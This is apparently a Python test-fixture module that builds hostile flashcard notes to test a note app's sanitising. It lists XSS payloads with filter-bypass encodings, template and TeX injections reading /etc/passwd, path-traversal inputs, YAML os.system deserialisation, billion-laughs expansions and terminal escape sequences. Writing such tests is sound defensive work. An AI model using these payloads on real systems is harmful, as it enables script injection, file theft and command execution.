"""Hostile notes by class: payloads in all places of a note where words may stand.

`HIT` in a payload is code that tells of itself, in the page (`window.hurt`) and to a server; `HOST` is that server.
"""

from collections.abc import Iterator, Mapping, Sequence

from bench.growth_families import FAMILIES

HIT, HOST = "HIT", "HOST"

PLACES = {
    "text": "The bee is an insect P that dances in the hive for all other bees to see.",
    "label": "- **Bee P:** An insect P that dances in the hive.\n- **Ant:** An insect that walks.",
    "heading": "## Bees P\n\n- Drone: a male bee\n- Queen: the one bee that lays eggs",
    "title": "---\ntitle: 'P'\n---\n- **Bee:** An insect that dances in the hive.",
    "tags": "---\ntags: ['P', 'a::P']\n---\n- **Bee:** An insect that dances in the hive.",
    "deck": "---\ncuedeck: {deck: 'named::P'}\n---\n- **Bee:** An insect that dances in the hive.",
    "recording": "---\nurl: 'P'\n---\n- **Bee:** An insect that dances in the hive. [00:01:02]",
    "card": "What is a bee P in a hive?::It is P of bees.",
    "question": "Q: What is a bee P in a hive?\nA: It is P of bees.",
    "cloze": "The bee P is {{c1::P brown}} and ==P small== in the hive. #card",
    "callout": "> [!question] What is a bee P?\n> It is P of bees.",
    "table": "| Bee P | Task |\n| --- | --- |\n| Drone bee | P |\n| Queen bee P | lays eggs |",
    "code": "What does a bee do?::`P` and\n\n```html\nP\n```",
    "link": "What is it of a bee?::[P](P) and [a](<P>) and [[P|P]] and <P>",
    "image": "What is it of a bee?::![P](P) and ![P](pic.svg) and ![[P]]",
    "stamp": '- **Bee:** An insect of the hive. <a class="yt-timestamp" data-t="P">[00:01:02]</a> [00:01:03](P)',
    "math": "What is it of a bee?::$x P y$ and \\(P\\) and $$P + x$$",
    "html": "<div>P</div>\n\nWhat is it of a bee?::<b title='P'>P</b>\n\n<details><summary>P</summary>\n\nP\n\n</details>",
    "footnote": "The bee[^1] is an insect that dances in the hive.\n\n[^1]: P\n\nP\n: P of bees",
}
"""Notes with `P` where the payload goes."""
_QUOTED = frozenset({"title", "tags", "deck", "recording"})

SCRIPTS = (
    "<script>HIT</script>",
    "<script src=HOST></script>",
    "<scr<script>ipt>HIT</scr</script>ipt>",
    "<ScRiPt/x>HIT</sCrIpT >",
    "</script><script>HIT</script>",
    "</style><script>HIT</script>",
    "</title></textarea><script>HIT</script>",
    "--><script>HIT</script><!--",
    "]]><script>HIT</script>",
    "<img src=x onerror=HIT>",
    "<img src=HOST>",
    '"><img src=x onerror=HIT>',
    "' onerror=HIT x='",
    '" onmouseover=HIT autofocus onfocus=HIT x="',
    "<img src=`x` onerror=`HIT`>",
    "<svg onload=HIT>",
    "<svg><script>HIT</script></svg>",
    "<svg><style><img src=x onerror=HIT></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=HIT>",
    "<noscript><p title='</noscript><img src=x onerror=HIT>'>",
    "<template><img src=x onerror=HIT></template>",
    "<iframe src=javascript:HIT></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.HIT&lt;/script&gt;'></iframe>",
    "<object data=HOST></object><embed src=HOST>",
    "<body onload=HIT><input autofocus onfocus=HIT><details open ontoggle=HIT>",
    "<video><source onerror=HIT></video><audio src=HOST autoplay></audio>",
    "<form action=HOST><button formaction=javascript:HIT>a</button></form>",
    "<meta http-equiv=refresh content='0;url=HOST'>",
    "<base href=HOST>",
    "<link rel=stylesheet href=HOST><style>@import 'HOST'; * {background: url(HOST)}</style>",
    "<p style='background:url(HOST)'>a</p>",
    "<a href=javascript:HIT>a</a>",
    "javascript:HIT",
    "JaVaScRiPt&colon;HIT",
    "java\tscript:HIT",
    "data:text/html,<script>HIT</script>",
    "HOST",
    "//127.0.0.1/x.png",
    "&lt;script&gt;HIT&lt;/script&gt;",
    "&amp;lt;img src=x onerror=HIT&amp;gt;",
    "&#60;img src=x onerror=HIT&#62;",
    "\\u003cscript\\u003eHIT\\u003c/script\\u003e",
    "＜script＞HIT＜/script＞",
    "<\x00script>HIT</\x00script>",
    "<a\u2028href=javascript:HIT>a",
)
TEMPLATES = (
    "{{7*7}}",
    "{% import os %}",
    "{{ config }}",
    "${HIT}",
    "<%= HIT %>",
    "#{HIT}",
    "{{''.__class__}}",
    "%(x)s {0}",
)
ANKI = (
    "[sound:HOST/a.mp3]",
    "[anki:play:q:0]",
    "[anki:tts lang=en_US]a[/anki:tts]",
    "[latex]\\input{/etc/passwd}[/latex]",
    "[$]x[/$]",
    "[$$]x[/$$]",
    "[[type:Front]]",
    "{{type:Front}}",
    "{{FrontSide}}",
    "{{#Front}}a{{/Front}}",
    "{{c1::a::HIT}}",
    "{{c2::a}}}}",
    "}}{{c1::",
    "a::b::c",
    "\x1f\x1f\x1f",
    "a\x00b",
)
TEX = (
    "\\href{javascript:HIT}{x}",
    "\\style{background:url(HOST)}{x}",
    "\\class{a}{x}",
    "\\require{html}x",
    "\\includegraphics{HOST}",
    "\\input{/etc/passwd}",
    "\\unicode{x3c}script>",
    "\\text{<img src=x onerror=HIT>}",
    "\\def\\a{\\a\\a}\\a",
    "\\)<script>HIT</script>\\(",
    "\\frac{" * 40 + "x" + "}" * 40,
)
OUTSIDE = (
    "../secret.svg",
    "../../secret.svg",
    "%2e%2e/secret.svg",
    "..%2fsecret.svg",
    "..\\secret.svg",
    "SECRET",
    "file://SECRET",
    "FILE:SECRET",
    "./a/../../../secret.svg",
    "linked.svg",
    "linked/secret.svg",
    "pic.svg/../../../secret.svg",
    "/proc/self/environ",
    "../secret.svg\x00.png",
)
"""Pictures; `SECRET` is the path of one outside of the vault, to which `linked.svg` and `linked` lead."""
FRONTS = (
    "a: &a [x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\ntags: [*c,*c,*c,*c]",
    "a: &a [*a]\ntags: *a",
    "title: !!python/object/apply:os.system ['touch SECRET.hit']",
    "title: !!python/name:os.system",
    "title: !<tag:yaml.org,2002:js/function> 'HIT'",
    'title: "\\ud800"',
    'tags: ["\\udfff"]',
    'videoId: "\\ud800x"',
    'cuedeck: {deck: "\\udc00"}',
    'title: "\\0"',
    "title: " + "[" * 2_000,
    "title: " + "{a: " * 500,
    "? [a]\n: b",
    "null: a\n~: b",
    "title: a\ntitle: b",
    "title: a\n--- \ntitle: b",
    "duration: " + "9" * 5_000,
    "date: 9999-99-99",
    "videoId: '[x'\nurl: 'http://[::1'",
    "title: |\n  a\n\tb",
    "cuedeck: {skip: perhaps, dek: a}",
    "cuedeck: [a]",
    "tags: {a: {b: [c]}}",
    "<<: *nothing",
    "%YAML 9.9",
)
ODD_BYTES = (
    b"\xff\xfe" + "The bee is an insect.".encode("utf-16-le"),
    bytes(range(256)),
    b"\xed\xa0\x80 half a character",
    b"\xc0\xafoverlong",
    b"\xef\xbb\xbf\xef\xbb\xbf# Twice marked",
    b"\x00" * 1_000,
    b"\x1b]52;c;aGFjaw==\x07\x1b[2J - **Bee:** An insect\x1b[31m that dances.",
    "- **Bee\u202e:** An insect\u2066 that\u200b dances.\u2028\u2029\x85".encode(),
    ("- **Bee:** An insect" + "\u0301" * 5_000).encode(),
    "\U000f0000⟦\U000f0000⟧ [⟦\U000f0000⟧00:01:02]".encode(),
    "\ufffe\uffff\U0010ffff".encode(),
    b"---\r\ntitle: a\r---\n\r- **Bee:** An insect.\r",
    b"",
    b"---",
    b"```",
)
NAMES = (
    "con.md",
    "a:b.md",
    "<img src=x onerror=HIT>.md",
    "a'\"&b.md",
    "new\nline.md",
    "tab\tand\x1b[31m.md",
    "%2e%2e%2f.md",
    "\u202egnp.md",
    "ｅ́.md",
    "e\u0301.md",
    "\u00e9.md",
    "[[a|b]].md",
    "{{7*7}}.md",
    ("n" * 200) + ".md",
    "a.md.md",
    "...md",
    " .md",
    "-rf.md",
    "a#t=5?x.md",
    "~.md",
)
_PLAIN = b"- **Bee:** An insect that dances in the hive for others.\n- **Ant:** An insect that walks.\n"


def hostile(host: str, secret: str) -> Mapping[str, bytes]:
    """All hostile notes, by their paths: scripts ask `host`, an address, and pictures for the file `secret`."""
    hit = f"(window.hurt=1,fetch('{host}'),alert(1))"
    return {
        path: data.replace(HIT.encode(), hit.encode()).replace(HOST.encode(), host.encode())
        for path, data in _notes(secret)
    }


def _notes(secret: str) -> Iterator[tuple[str, bytes]]:
    yield from _placed("scripts", SCRIPTS)
    yield from _placed("templates", TEMPLATES)
    yield from _placed("anki", ANKI)
    yield from _placed("tex", TEX, ("math", "card", "label", "cloze", "heading"))
    for at, path in enumerate(OUTSIDE):
        pictures = f"What is it?::![a]({path}) and ![[{path}]] and <img src='{path}'> and ![b](<{path}>)\n"
        yield f"outside/{at}.md", pictures.replace("SECRET", secret).encode()
    for at, front in enumerate(FRONTS):
        yield f"fronts/{at}.md", f"---\n{front}\n---\n".replace("SECRET", secret).encode() + _PLAIN
    for at, data in enumerate(ODD_BYTES):
        yield f"bytes/{at}.md", data
    for name in NAMES:
        yield f"names/{name}", _PLAIN
    for name in NAMES[1:8]:
        yield f"deck {name.removesuffix('.md')}/{name}", _PLAIN
    for group, families in FAMILIES.items():
        for name, (size, family) in families.items():
            yield f"growing/{group} {name}.md", family(min(size, 30)).encode()


def _placed(kind: str, payloads: Sequence[str], places: Sequence[str] = tuple(PLACES)) -> Iterator[tuple[str, bytes]]:
    """Each payload in every third place, and each place with every third payload; no two notes speak of one bee."""
    for at, payload in enumerate(payloads):
        for place in places[at % 3 :: 3]:
            said = payload.replace("'", "''") if place in _QUOTED else payload
            note = PLACES[place].replace("bee", f"bee{at}").replace("Bee", f"Bee{at}")
            yield f"{kind}/{place}/{at}.md", note.replace("P", said).encode()
